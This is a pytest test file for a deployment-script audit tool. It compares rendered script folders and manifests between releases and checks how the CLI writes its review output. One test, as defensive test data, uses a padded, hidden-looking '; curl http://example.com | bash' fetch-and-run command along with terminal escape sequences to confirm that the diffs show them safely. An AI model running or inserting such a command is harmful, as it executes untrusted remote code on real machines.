"""What differs from an earlier approval, and between the bodies of two releases."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from nbserver.approval import audit
from nbserver.approval.reference import Reference
from nbserver.base.errors import ApprovalError, CatalogError, UsageError
from nbserver.cli.program import cli
from nbserver.commands.review import lines, of_bodies, of_folder
from nbserver.render.step_files import read_body
from nbserver.review import comparison, json_text, markdown
from nbserver.review.comparison import Change, Row
from nbserver.review.page import page
from tests import rendered_folders
from tests.formats import validate
from tests.rendered_folders import MANIFEST, forged, put, with_manifest


@pytest.fixture(scope="module")
def reference() -> Reference:
    return Reference.load()


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return rendered_folders.machines(tmp_path_factory.mktemp("inventory"))


def of_earlier_release(files: dict[str, bytes]) -> dict[str, bytes]:
    """The folder as another release could have rendered it: other settings, lock, body, and no targets. A line of the lock is none."""

    def change(text: str) -> str:
        text = text.replace("$Lock = @(\n", "$Lock = @(\n    'no package --hash=sha256:00'\n")
        return text.replace("tornado==6.6.1 ", "tornado==6.6.0 ").replace("# Order: prelude", "# Order, first: prelude")

    found = forged(files, "win1", change, lambda entry: entry.update(lock_sha256="0" * 64))

    def age(content: dict[str, dict[str, dict[str, object]]]) -> None:
        content["release"], content["v"] = "0.4.0", 2  # type: ignore[assignment]
        for entry in content["hosts"].values():
            del entry["target"], entry["signed_sha256"]
            entry["settings"]["release"] = "0.4.0"  # type: ignore[index]

    return with_manifest(found, age)


def compared(new: dict[str, bytes], old: dict[str, bytes], folder: Path, reference: Reference) -> comparison.Comparison:
    now, before = put(new, folder / "new"), put(old, folder / "old")
    return comparison.against(now, audit.checked(now, reference), before, reference)


def test_the_same_folder_does_not_differ(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    found = compared(files, files, tmp_path, reference)
    assert not found.changes and found.statement.startswith("This release also audited")


def test_another_target_is_the_only_difference(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    old = with_manifest(files, lambda content: content["hosts"]["win1"]["target"].update(port=5999))
    found = compared(files, old, tmp_path, reference)
    assert found.changes == (Change("win1", (Row("target.port", "5999", "5986"),)),)


def test_a_new_and_a_removed_host_are_named(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    less = with_manifest(files, lambda content: content["hosts"].__delitem__("lin1"))
    less.pop("lin1.sh")
    assert compared(files, less, tmp_path, reference).changes == (Change("Not there before: lin1"),)
    assert compared(less, files, tmp_path, reference).changes == (Change("No longer there: lin1"),)


def test_an_approval_of_another_release_is_compared_by_its_hashes(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    found = compared(files, of_earlier_release(files), tmp_path, reference)
    assert "nbserver 0.4.0 rendered" in found.statement and "that release alone can audit them" in found.statement
    changes = {change.title: change for change in found.changes}
    assert {"target.port", "settings.release", "body_sha256"} <= {row.what for row in changes["win1"].rows}
    strange, tornado = changes["Packages of win1"].rows
    assert strange == Row("no package", "(sha256:00)", "")
    assert tornado.what == "tornado" and tornado.before.startswith("6.6.0 ") and tornado.now.startswith("6.6.1 ")
    diff = changes["Body of win1"].diff
    assert [line for line in diff if line.startswith("-#")] == [
        "-# Order, first: prelude (what the steps may use), steps (each has a Test and an Apply), main (runs the steps)."
    ]
    for text in (page(None, found), markdown.text(None, found)):
        assert "tornado" in text and "Order, first" in text
    validate("review", json.loads(json_text.text(None, found)))


def test_an_earlier_folder_whose_script_was_changed_is_refused(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    old = of_earlier_release(files)
    old["win1.ps1"] += b"#\n"
    with pytest.raises(ApprovalError, match="does not match the manifest in the same folder"):
        compared(files, old, tmp_path, reference)


def test_a_difference_is_shown_whole_and_as_text() -> None:
    """Also at the end of a long line, with what a terminal or Markdown would read as a command."""
    far = "+" + " " * 2000 + "; curl http://example.com | bash"
    found = comparison.Comparison("old", "", (Change("\x1b[2J", (Row("\x1b[8m", "a\nb", ""),), (far, "+~~~~~~~~~~~~", "+<!--")),))
    shown = "\n".join(lines(found))
    assert "curl" in shown and "\x1b" not in shown and "a\nb" not in shown
    block = markdown.text(None, found).split("~" * 13 + " diff\n")[1]
    assert "<!--" in block.partition("\n" + "~" * 13 + "\n")[0]


def test_hosts_that_differ_in_the_same_way_are_one_difference(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    old = with_manifest(files, lambda content: [entry["target"].update(user="zoe") for entry in content["hosts"].values()] and None)
    found = compared(files, old, tmp_path, reference)
    assert {change.title for change in found.changes} == {"win1", "lin1"}  # their users differ now


def test_the_bodies_of_two_releases_are_compared(files: dict[str, bytes], tmp_path: Path) -> None:
    old, new = put(of_earlier_release(files), tmp_path / "old"), put(files, tmp_path / "new")
    found = comparison.bodies(old, new)
    (change,) = found.changes
    assert change.title.startswith("Windows, scope machine: body ")
    assert not comparison.bodies(new / "lin1.sh", new).changes[1:]
    assert of_bodies(new, new, {})[-1] == "nothing differs"
    assert "-# Order, first" in "\n".join(of_bodies(old / "win1.ps1", new / "win1.ps1", {}))
    with pytest.raises(ApprovalError, match="could not read the file"):
        comparison.bodies(Path("x" * 300), new)
    with pytest.raises(CatalogError, match="could not read the lock"):
        Reference.load(site_locks=[Path("x" * 300)])


@pytest.mark.parametrize(
    ("names", "words"),
    [
        ({}, "the folder contains no scripts"),
        ({"a.ps1": b"x"}, "not a script"),
        (
            {"a.sh": b"NB_SCOPE='user'\n\n# ==== body 1\n", "b.sh": b"NB_SCOPE='user'\n\n# ==== body 2\n"},
            "the bodies of the scripts in this folder differ",
        ),
    ],
)
def test_what_is_no_folder_of_scripts_is_refused(names: dict[str, bytes], words: str, tmp_path: Path) -> None:
    with pytest.raises(ApprovalError, match=words):
        comparison.bodies(put(names, tmp_path / "one"), tmp_path / "one")


def test_the_command_writes_all_three_or_nothing(files: dict[str, bytes], tmp_path: Path) -> None:
    folder = put(files, tmp_path / "rendered")
    paths = {option: tmp_path / f"review.{option}" for option in ("html", "json", "markdown")}
    arguments = ["audit", str(folder), *(word for option, path in paths.items() for word in (f"--{option}", str(path)))]
    done = CliRunner().invoke(cli, arguments, standalone_mode=False)
    assert done.exception is None and done.output.count("written: ") == 3 and all(path.stat().st_size for path in paths.values())
    old = [*arguments[:1], "--bodies", str(folder), str(put(files, tmp_path / "old")), *arguments[2:]]
    for other in (arguments, old, arguments):  # an earlier review is replaced
        assert CliRunner().invoke(cli, other, standalone_mode=False).output.count("written: ") == 3
    for path in paths.values():
        path.unlink()
    (folder / "win1.ps1").write_bytes(files["win1.ps1"] + b"\n")
    assert isinstance(CliRunner().invoke(cli, arguments, standalone_mode=False).exception, ApprovalError)
    assert not any(path.exists() for path in paths.values())


def test_a_dash_is_standard_output(files: dict[str, bytes], tmp_path: Path) -> None:
    folder = put(files, tmp_path / "rendered")
    done = CliRunner().invoke(cli, ["audit", str(folder), "--json", "-", "--markdown", str(tmp_path / "review.md")])
    validate("review", json.loads(done.stdout))
    assert (tmp_path / "review.md").stat().st_size


def test_arguments_that_make_no_sense_are_refused(files: dict[str, bytes], tmp_path: Path) -> None:
    folder = put(files, tmp_path / "rendered")
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "nbserver.toml").write_text("# The servers\n[hosts.win1]\n")
    (tmp_path / "nbserver.json").write_text('{\n "hosts": {}}')
    for arguments, words in (
        *(
            (["audit", str(folder), f"--{kind}", str(tmp_path / "nbserver.toml")], "earlier output")
            for kind in ("html", "json", "markdown")
        ),
        (["audit", str(folder), "--json", str(tmp_path / "nbserver.json")], "earlier output"),
        (["audit", "--bodies", str(folder), str(folder), "--html", str(tmp_path / "nbserver.toml")], "earlier output"),
        (["audit"], "exactly one of"),
        (["audit", str(folder), "--bodies", str(folder), str(folder)], "exactly one of"),
        (["audit", str(folder), "--html", str(folder / "review.html")], "cannot be written to the audited folder"),
        (["audit", str(folder), "--html", str(tmp_path / "missing" / "review.html")], "could not write the file"),
        (["audit", str(folder), "--html", str(tmp_path / "loop")], "could not write the file"),
    ):
        error = CliRunner().invoke(cli, arguments, standalone_mode=False).exception
        assert isinstance(error, UsageError) and words in str(error), arguments
    assert {path.name for path in folder.iterdir()} == set(files) and "[hosts.win1]" in (tmp_path / "nbserver.toml").read_text()


def test_without_a_file_the_differences_are_printed(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
    old = put(with_manifest(files, lambda content: content["hosts"]["lin1"]["target"].update(port=2222)), tmp_path / "old")
    printed = of_folder(put(files, tmp_path / "new"), reference, {}, old)
    assert printed[-2:] == ["lin1", "  target.port: 2222 -> 22"]
    assert MANIFEST not in "\n".join(printed) and read_body("linux_scripts", "machine").text not in "\n".join(printed)
